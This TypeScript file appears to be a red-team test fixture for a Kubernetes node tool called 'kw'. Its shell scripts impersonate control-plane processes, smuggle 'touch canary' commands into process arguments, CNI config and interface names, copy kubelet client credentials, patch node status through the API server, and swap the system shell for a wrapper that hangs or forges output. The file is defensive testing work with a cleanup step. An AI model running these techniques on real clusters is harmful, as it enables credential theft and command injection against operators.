/** What the red team runs on its worker. Scripts for a lab host's own root shell, not for `kw`. */

/** Characters: no report on two hosts is longer. */
export const overlong = 400_000;

/** Says of itself what would be a command elsewhere, wherever `kw` asks. */
export const lies = (canary: string): string => `set -e
mkdir -p /opt/red /etc/cni/net.d
cp /bin/dash /opt/red/kube-controller-manager
cat >/etc/systemd/system/kube-controller-manager.service <<'UNIT'
[Service]
Restart=always
ExecStart=/opt/red/kube-controller-manager -c "while :; do sleep 5; done" kube-controller-manager "--cluster-cidr=10.0.0.0/8 -j ACCEPT; touch ${canary}-cidr; true" "--service-cluster-ip-range=$(touch ${canary}-range)"
UNIT
systemctl daemon-reload
systemctl start kube-controller-manager
cp /opt/red/kube-controller-manager /opt/red/etcd
systemd-run --unit red-etcd /opt/red/etcd -c 'while :; do sleep 5; done' etcd "--name=a'; touch ${canary}-name; '" "--listen-client-urls=https://1.2.3.4;touch\${IFS}${canary}-url:2379"
printf '%s' '{"cniVersion":"0.3.1","name":"x","plugins":[{"type":"bridge","bridge":"b; touch ${canary}-bridge","ipam":{"type":"host-local","subnet":"10.244.0.77/24"}},{"type":"p\\u0027; touch ${canary}-type"}]}' >/etc/cni/net.d/99-red.conflist
ip link add 'a;touch$0' type dummy || true
cp -p /var/lib/kubelet/pki/kubelet-client-current.pem /opt/red/me.pem 2>/dev/null || true
server=$(sed -n 's/^ *server: *//p' /etc/kubernetes/kubelet.conf | tr -d '"' | head -n 1)
if [ -s /opt/red/me.pem ]; then set -- --cert /opt/red/me.pem --key /opt/red/me.pem; else
  awk '/client-certificate-data:/ { print $2 }' /etc/kubernetes/kubelet.conf | base64 -d >/opt/red/me.crt
  awk '/client-key-data:/ { print $2 }' /etc/kubernetes/kubelet.conf | base64 -d >/opt/red/me.key
  set -- --cert /opt/red/me.crt --key /opt/red/me.key
fi
curl -ks --max-time 10 "$@" -X PATCH -H 'content-type: application/strategic-merge-patch+json' "$server/api/v1/nodes/$(uname -n)/status" -d '{"status":{"addresses":[{"type":"InternalIP","address":"10.9.9.9; touch ${canary}-node"}]}}' >/opt/red/patched || true
`;

/** Answers `kw` as a hostile host may: the word that it starts, then what it does. Honest sessions of others stay. */
const shell = (behaviour: string): string => `set -e
cat >/opt/red/sh <<'WRAPPER'
#!/bin/dash
case "$*" in *kw-go*) ;; *) exec /bin/dash "$@" ;; esac
IFS= read -r length
sent=$(head -c "$length")
${behaviour}
WRAPPER
chmod 755 /opt/red/sh
ln -sf /opt/red/sh /usr/local/bin/sh`;

const go = `printf '\\nkw-go %s\\n' $$`;
const honest = `case "$sent" in *kw_main*) ;; *) ${go}; eval "$sent"; exit ;; esac`;
const nonce = `n=$(printf %s "$sent" | tr -c '0-9a-f' '\\n' | grep -xE '[0-9a-f]{24}' | head -n 1)`;

/** A worker's shell, and whether it answers questions truly: then the doctor has nothing to say of it, and `up` alone. */
export interface Wrapped {
  readonly script: string;
  readonly answersTruly: boolean;
}

/** One wrapped shell after the other, by what it does to `kw`. */
export const wrapped: Readonly<Record<string, Wrapped>> = {
  'prints without end': { script: shell(`${go}\nexec yes`), answersTruly: false },
  'never starts': { script: shell('sleep 600'), answersTruly: false },
  'forges records of steps': {
    script: shell(
      `${honest}\n${nonce}\n${go}\nfor i in 0 1 2 3 99; do printf '%s proof %s\\naXMK\\n.\\n' "$n" "$i"; done\nprintf '%s bye\\n' "$n"`,
    ),
    answersTruly: true,
  },
};

/** Takes back everything. */
export const quiet = `/bin/rm -f /usr/local/bin/sh /opt/red/sh
systemctl stop kube-controller-manager red-etcd 2>/dev/null
/bin/rm -f /etc/systemd/system/kube-controller-manager.service /etc/cni/net.d/99-red.conflist
systemctl daemon-reload
ip link del 'a;touch$0' 2>/dev/null
systemctl restart kubelet
true`;
